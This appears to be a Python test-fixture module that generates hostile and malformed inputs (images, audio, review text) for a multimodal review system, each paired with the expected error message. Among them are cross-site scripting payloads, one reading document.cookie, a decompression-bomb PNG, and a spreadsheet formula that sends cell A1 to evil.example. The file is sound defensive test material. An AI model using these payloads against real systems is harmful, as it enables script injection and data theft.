"""The bad-input corpus: every hostile or broken photo, clip and review the tests send, with what a user must see.

Each :class:`Case` makes its input on demand (nothing is committed but this file) and names its outcome:
``expect`` is a fragment of the one clear error message the session gives (or fragments, any one of which
will do, where what Whisper half-hears decides which refusal it is), or None for a normal turn.

    from bad_inputs import IMAGES, AUDIO, TEXTS, two_hour_matroska
"""

from __future__ import annotations

import importlib.util
import io
import struct
import wave
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from pathlib import Path

import av
import numpy as np
from PIL import Image

from mmrec.audio import SAMPLE_RATE

ROOT = Path(__file__).resolve().parents[1]
NO_SPEECH = "no speech heard"
NOT_AN_IMAGE = "not an image file"
CORRUPT_IMAGE = "corrupt or truncated"
NOT_AUDIO = "not an audio file"
NOT_UNDERSTOOD = "understand that"  # "I didn't understand that: it does not read as words, ..."
RATED_SPEECH = "five stars, I love it"


@dataclass(frozen=True)
class Case:
    """One bad input: its name, the file name a client would give it, how to make it, what the user sees."""

    name: str
    filename: str
    make: Callable[[], bytes | str]
    expect: str | tuple[str, ...] | None
    """A fragment of the error message (or fragments, any one of which will do), or None: a normal turn."""
    needs_speech: bool = False
    """Whether telling it apart takes a real Whisper (espeak-ng speech, or a verdict on the sound)."""

    def refused_with(self, message: str) -> bool:
        """Whether ``message`` holds the expected fragment (one of them)."""
        expected = (self.expect,) if isinstance(self.expect, str) else self.expect or ()
        return any(fragment in message for fragment in expected)


# --- photos ---


def encoded(image: Image.Image, fmt: str, **options) -> bytes:
    out = io.BytesIO()
    image.save(out, fmt, **options)
    return out.getvalue()


def product_shot(size: tuple[int, int] = (200, 160), mode: str = "RGB") -> Image.Image:
    """A red block on white, in ``mode``."""
    image = Image.new("RGB", size, (245, 245, 245))
    w, h = size
    image.paste((200, 30, 30), (w // 4, h // 5, 3 * w // 4, 4 * h // 5))
    return image.convert(mode)


def _sixteen_bit_png() -> bytes:
    """The product shot in 16-bit grey: clipped to 8 bits it would be a white page, which matches nothing."""
    grey = np.asarray(product_shot(mode="L"), dtype=np.uint16) * 257
    return encoded(Image.fromarray(grey), "PNG")


def _animated_gif() -> bytes:
    frames = [product_shot(mode="RGB").convert("P"), Image.new("P", (200, 160), 3)]
    return encoded(frames[0], "GIF", save_all=True, append_images=frames[1:], duration=100, loop=0)


def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("photo.png", encoded(product_shot(), "PNG"))
    return out.getvalue()


def _corrupt_png() -> bytes:
    """A PNG whose header is intact and whose pixel data is random bytes."""
    data = bytearray(encoded(product_shot(), "PNG"))
    data[50:-12] = np.random.default_rng(0).integers(0, 256, len(data) - 62, dtype=np.uint8).tobytes()
    return bytes(data)


IMAGES = [
    Case("truncated PNG", "photo.png", lambda: encoded(product_shot(), "PNG")[:300], CORRUPT_IMAGE),
    Case("corrupt PNG", "photo.png", _corrupt_png, CORRUPT_IMAGE),
    Case(
        "decompression bomb",
        "photo.png",
        lambda: encoded(Image.new("1", (9000, 9000)), "PNG"),
        "81.0 megapixels; the limit is 50 megapixels",
    ),
    Case("40 megapixels", "photo.jpg", lambda: encoded(product_shot((8000, 5000)), "JPEG", quality=60), None),
    Case(
        "PDF renamed .png", "photo.png", lambda: b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n", NOT_AN_IMAGE
    ),
    Case("ZIP renamed .png", "photo.png", _zip, NOT_AN_IMAGE),
    Case(
        "SVG renamed .png",
        "photo.png",
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>',
        NOT_AN_IMAGE,
    ),
    Case(
        "HTML renamed .png", "photo.png", lambda: b"<html><script>alert(document.cookie)</script></html>", NOT_AN_IMAGE
    ),
    Case("CMYK JPEG", "photo.jpg", lambda: encoded(product_shot(mode="CMYK"), "JPEG"), None),
    Case("16-bit greyscale PNG", "photo.png", _sixteen_bit_png, None),
    Case("animated GIF", "photo.gif", _animated_gif, None),
    Case("empty file", "photo.png", lambda: b"", "empty"),
]


# --- audio ---


def wav(samples: np.ndarray, rate: int = SAMPLE_RATE) -> bytes:
    """``samples`` (n,) or (n, channels) in [-1, 1] as 16-bit PCM WAV bytes."""
    pcm = (np.clip(samples, -1.0, 1.0) * 32767).astype("<i2")
    out = io.BytesIO()
    with wave.open(out, "wb") as w:
        w.setnchannels(1 if pcm.ndim == 1 else pcm.shape[1])
        w.setsampwidth(2)
        w.setframerate(rate)
        w.writeframes(pcm.tobytes())
    return out.getvalue()


@cache
def spoken(text: str = RATED_SPEECH) -> np.ndarray:
    """``text`` spoken by espeak-ng at 16 kHz, as the voice fixtures are (assets/voice/make_clips.py)."""
    spec = importlib.util.spec_from_file_location("make_clips", ROOT / "assets" / "voice" / "make_clips.py")
    make_clips = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(make_clips)
    return make_clips.speak(text, "en-us+m8")


def resampled(rate: int) -> np.ndarray:
    """The rated speech at ``rate`` by linear interpolation (at 8 kHz the "f" of "five" is lost, as on a phone)."""
    x = spoken()
    return np.interp(np.arange(int(x.size * rate / SAMPLE_RATE)) * SAMPLE_RATE / rate, np.arange(x.size), x)


def white_noise(seconds: float = 3.0, rms: float = 0.1) -> np.ndarray:
    return (np.random.default_rng(1).standard_normal(int(seconds * SAMPLE_RATE)) * rms).astype(np.float32)


def click(seconds: float = 0.2) -> np.ndarray:
    """A loud burst of ``seconds`` in the middle of two seconds of silence."""
    x = np.zeros(2 * SAMPLE_RATE, np.float32)
    x[SAMPLE_RATE : SAMPLE_RATE + int(seconds * SAMPLE_RATE)] = white_noise(seconds, 0.5)
    return x


def header_says_8_khz() -> bytes:
    """16 kHz speech whose WAV header says 8 kHz: it decodes, as speech slowed to a drawl Whisper half-hears.

    What it makes of it depends on the machine (int8 kernels, espeak-ng build): "So that's true. That's true."
    on one (applied as a review before Whisper's doubts were heeded; now it doubts it: no speech heard),
    "Fusks! Fusks! Fusks!" on another (heard, but no request: not understood). Either way nothing is applied."""
    data = bytearray(wav(spoken()))
    data[24:32] = struct.pack("<II", 8000, 16000)  # sample rate, byte rate
    return bytes(data)


def two_hour_wav() -> bytes:
    """Two hours of 1 kHz 16-bit silence as WAV (14 MB)."""
    return wav(np.zeros(7200 * 1000, np.float32), 1000)


def two_hour_matroska(*, declared_seconds: float | None = None) -> bytes:
    """Two hours of a 1 kHz 16-bit PCM tone in Matroska (14 MB, built in a fraction of a second).

    With ``declared_seconds`` the header's Duration is overwritten to lie: the data stays two hours long.
    """
    rate = 1000
    second = (0.5 * np.sin(2 * np.pi * 440 * np.arange(rate) / rate) * 32767).astype(np.int16).reshape(1, -1)
    out = io.BytesIO()
    with av.open(out, "w", format="matroska") as container:
        stream = container.add_stream("pcm_s16le", rate=rate, layout="mono")
        for i in range(7200):
            frame = av.AudioFrame.from_ndarray(second, format="s16", layout="mono")
            frame.sample_rate, frame.pts = rate, i * rate
            for packet in stream.encode(frame):
                container.mux(packet)
    data = out.getvalue()
    if declared_seconds is not None:
        at = data.index(b"\x44\x89\x88") + 3  # the Duration element: an 8-byte float in milliseconds
        data = data[:at] + struct.pack(">d", declared_seconds * 1000) + data[at + 8 :]
    return data


AUDIO = [
    Case("empty file", "clip.wav", lambda: b"", "empty"),
    Case("silence", "clip.wav", lambda: wav(np.zeros(2 * SAMPLE_RATE, np.float32)), NO_SPEECH, needs_speech=True),
    Case("white noise", "clip.wav", lambda: wav(white_noise()), NO_SPEECH, needs_speech=True),
    Case("0.2 s click", "clip.wav", lambda: wav(click()), NO_SPEECH, needs_speech=True),
    Case("corrupt but decodable", "clip.wav", header_says_8_khz, (NO_SPEECH, NOT_UNDERSTOOD), needs_speech=True),
    Case("two hours declared", "clip.wav", two_hour_wav, "clip is 7200.0 s; the limit is 30 s"),
    Case(
        "header says one second, data two hours",
        "clip.mkv",
        lambda: two_hour_matroska(declared_seconds=1.0),
        "clip is over 30 s; the limit is 30 s",
    ),
    Case("speech at 8 kHz", "clip.wav", lambda: wav(resampled(8000), 8000), None, needs_speech=True),
    Case("speech at 96 kHz", "clip.wav", lambda: wav(resampled(96_000), 96_000), None, needs_speech=True),
    Case("stereo speech", "clip.wav", lambda: wav(np.stack([spoken(), spoken()], axis=1)), None, needs_speech=True),
    Case("corrupt", "clip.wav", lambda: b"RIFF\x00\x00\x00\x00WAVEjunk" + bytes(100), "could not decode"),
    Case("text renamed .wav", "clip.wav", lambda: b"this is not audio at all\n" * 20, NOT_AUDIO),
]


# --- reviews ---

TEXTS = [
    Case("empty", "", lambda: "", "the review is empty"),
    Case("only spaces and markup", "", lambda: "   <b> </b>  ", "the review is empty"),
    Case("at the length limit", "", lambda: ("warm red jacket for running " * 200)[:5000], None),
    Case("over the length limit", "", lambda: "warm red jacket " * 320, "characters long; the limit is 5000"),
    Case("emoji only", "", lambda: "😍🔥👟", None),
    Case("right to left", "", lambda: "\u202eI love this red jacket\u202c אני אוהב את זה", None),
    Case("HTML and script", "", lambda: '<img src=x onerror=alert(1)><script>alert("x")</script>red jacket', None),
    Case("spreadsheet formula", "", lambda: '=HYPERLINK("http://evil.example/?"&A1,"click") red jacket', None),
    Case("NUL characters", "", lambda: "red\x00 jacket\x00", None),
    Case("lone surrogate", "", lambda: "red jacket \ud800 please", "invalid characters"),
]
